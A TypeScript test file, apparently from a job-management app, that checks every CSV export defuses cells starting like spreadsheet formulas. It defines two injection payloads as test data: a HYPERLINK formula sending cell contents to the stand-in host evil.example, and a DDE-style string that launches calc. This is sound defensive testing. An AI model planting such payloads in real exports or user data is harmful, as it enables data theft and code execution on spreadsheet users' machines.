import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { expect, test } from 'vitest';
import { contract } from '#app/server/features.ts';
import { fileEndpoints } from '#features/work/files/file-endpoints.ts';
import { ENTITY_NAMES, isEntityName } from '#shared/entity-names.ts';
import { startApi } from '#test/api.ts';
import {
  aContact,
  aFile,
  aJob,
  aJobCost,
  anEstimate,
  anInvoice,
  aPayment,
  aTask,
  aWebForm,
} from '#test/factories.ts';

const api = await startApi();
const dana = await api.as('Admin Project manager');

/** Formulas that a spreadsheet program would run; the second one launches another program. */
const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"x")`;
const COMMAND = '@SUM(1+1)*cmd|calc!A0';

const exports = Object.entries(contract).flatMap(([feature, endpoints]) =>
  Object.values(endpoints)
    .filter(({ produces, path }) => produces === 'text/csv' && !path.includes(':'))
    .map(({ path }) => ({ feature, path })),
);

test('every export writes texts that start like a formula as mere text (D32)', async () => {
  const client = await aContact(dana, {
    name: FORMULA,
    company: COMMAND,
    address: `+${FORMULA}`,
    notes: `-1${COMMAND}`,
  });
  const job = await aJob(dana, { clientId: client.id, title: COMMAND, city: FORMULA });
  await aTask(dana, { jobId: job.id, title: FORMULA, instructions: COMMAND });
  const texts = { description: FORMULA, notes: COMMAND };
  await anEstimate(dana, { clientId: client.id, jobId: job.id, title: FORMULA, ...texts });
  const invoice = await anInvoice(dana, {
    clientId: client.id,
    jobId: job.id,
    invoiceNumber: '=1004',
    ...texts,
  });
  await aPayment(dana, { invoiceId: invoice.id, notes: FORMULA, reference: COMMAND });
  await aJobCost(dana, { jobId: job.id, description: FORMULA, vendor: COMMAND });

  const kept = await aFile(dana, { jobId: job.id, name: '=HYPERLINK.txt' });
  const params = { id: kept.id };
  await dana.ok(fileEndpoints.patch, { params, body: { caption: COMMAND } });

  const form = await aWebForm(dana, { title: FORMULA, description: COMMAND });
  await api.database.db
    .execute(sql`insert into web_form_submissions (form_id, form_version, data, status, sender, email, digest, network)
    values (${form.id}, 1, '{}', 'new', ${FORMULA}, ${COMMAND}, '', '')`);

  expect(exports.map(({ feature }) => feature)).toEqual(expect.arrayContaining([...ENTITY_NAMES]));
  for (const { feature, path } of exports) {
    const { status, bytes, headers } = await dana.get(path);
    expect(status, path).toBe(200);
    expect(headers['content-disposition'], path).toMatch(/^attachment; filename="[a-z-]+\.csv"/);
    const [, ...rows] = parse(bytes, { bom: true }) as string[][];
    const cells = rows.flat();

    const harmless = cells.filter((cell) => cell.startsWith("'"));
    expect(harmless.length, path).toBeGreaterThanOrEqual(isEntityName(feature) ? 2 : 0);
    expect(
      cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell))),
      path,
    ).toEqual([]);
  }
});
